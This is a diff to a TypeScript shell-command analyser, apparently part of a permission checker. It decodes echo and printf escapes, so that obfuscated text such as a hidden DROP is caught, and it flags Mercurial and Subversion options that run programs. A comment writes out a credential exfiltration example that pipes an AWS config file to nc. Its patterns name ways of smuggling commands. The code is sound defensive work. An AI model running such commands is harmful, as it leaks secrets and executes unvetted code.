@@ -456,13 +456,43 @@ export function printed(stages: SimpleCommand[]): string | undefined {
   const name = programName(c.argv[0] ?? "");
   if (c.dynamic.some(Boolean) || c.argsFrom.length || c.stdinFrom.length || c.redirects.length || (c.wrappers ?? []).length) return undefined;
   const args = c.argv.slice(1);
-  if (name === "echo") return args.filter((a, i) => !(i === 0 && /^-[neE]+$/.test(a))).join(" ");
-  // printf's format with its escapes; any conversion takes the next word.
+  if (name === "echo") {
+    const flags = /^-[neE]+$/.test(args[0] ?? "") ? args[0]! : "";
+    const text = args.slice(flags ? 1 : 0).join(" ");
+    // `echo -e` undoes escapes (`\104ROP` is DROP), as printf does.
+    return /e/.test(flags) ? unescaped(text, true) : text;
+  }
+  // printf's format with its escapes; any conversion takes the next word, `%b` with its escapes undone.
   if (name === "printf" && args.length && !args[0]!.startsWith("-")) {
     let rest = args.slice(1);
-    return args[0]!.replace(/%[-#0 +]*\d*(?:\.\d+)?[a-zA-Z%]|\\n|\\t|\\\\/g, (m) => (m === "%%" ? "%" : m === "\\n" ? "\n" : m === "\\t" ? "\t" : m === "\\\\" ? "\\" : ((next) => ((rest = rest.slice(1)), next))(rest[0] ?? ""))) + rest.join(" ");
+    const next = () => ((word) => ((rest = rest.slice(1)), word))(rest[0] ?? "");
+    let unknown = false;
+    const format = unescaped(args[0]!, false);
+    if (format === undefined) return undefined;
+    const out = format.replace(/%[-#0 +]*\d*(?:\.\d+)?[a-zA-Z%]/g, (m) => (m === "%%" ? "%" : m.endsWith("b") ? (unescaped(next(), true) ?? ((unknown = true), "")) : next()));
+    return unknown ? undefined : out + rest.join(" ");
   }
   return undefined;
+}
+
+const SIMPLE_ESCAPES: Record<string, string> = { n: "\n", t: "\t", r: "\r", v: "\v", f: "\f", a: "\x07", b: "\b", e: "\x1b", E: "\x1b", "\\": "\\", '"': '"', "'": "'", "?": "?" };
+
+/**
+ * Text with printf's or `echo -e`'s escapes undone (`\134`, `\x5c`, `\u005c`; echo's octal starts with 0); undefined
+ * for one aye does not know (`\c` ends the output), so that nothing is judged as text it is not.
+ */
+function unescaped(text: string, echo: boolean): string | undefined {
+  let unknown = false;
+  const out = text.replace(/\\(?:(0[0-7]{0,3})|([0-7]{1,3})|x([0-9a-fA-F]{1,2})|u([0-9a-fA-F]{1,4})|(.))/gs, (m, zero, octal, hex, uni, other) => {
+    if (zero !== undefined) return String.fromCharCode(parseInt(echo ? zero.slice(1) || "0" : zero, 8));
+    if (octal !== undefined) return echo ? m : String.fromCharCode(parseInt(octal, 8));
+    if (hex !== undefined) return String.fromCharCode(parseInt(hex, 16));
+    if (uni !== undefined) return String.fromCharCode(parseInt(uni, 16));
+    if (SIMPLE_ESCAPES[other] !== undefined) return SIMPLE_ESCAPES[other]!;
+    unknown = true;
+    return m;
+  });
+  return unknown ? undefined : out;
 }
 
 /**
@@ -536,6 +566,9 @@ export function effectsOf(cmd: SimpleCommand, cwd: string): Effects {
   // An option that names a program for this one to run (`--upload-pack=…`, `--rsh-command`, `--script-shell`, `--use-askpass`).
   // (Go's and gcc's one-dash spellings too: `-toolexec=…`, `-exec …`, `-wrapper …`; pytest's `-o addopts=…` loads plugins.)
   if (args.slice(0, args.indexOf("--") >>> 0).some((a) => RUNS_OPTION.test(a) || /^-(?:toolexec|wrapper)\b/.test(a) || (name === "go" && /^-exec\b/.test(a)) || /^addopts=/.test(a))) effects.add("runs");
+  // Mercurial's and Subversion's settings given on the line: hooks, aliases to shell commands, extensions, tunnels.
+  if (name === "hg" && args.some((a, i) => (args[i - 1] === "--config" || a.startsWith("--config=")) && /(?:^|=)(?:hooks|alias|extensions|ui\.(?:ssh|editor|merge)|pager)\./i.test(a.replace(/^--config=/, "")))) effects.add("runs");
+  if (name === "svn" && args.some((a, i) => (args[i - 1] === "--config-option" || a.startsWith("--config-option=")) && /tunnels|diff-cmd|diff3-cmd|editor-cmd|merge-tool-cmd/i.test(a))) effects.add("runs");
   // man -P names its pager.
   if (name === "man" && hasOption(args, "-P -H")) effects.add("runs");
   // What a network client is given to read (a pipe, a here-document, `< file`) leaves with it (`cat ~/.aws/config | nc host 9999`).
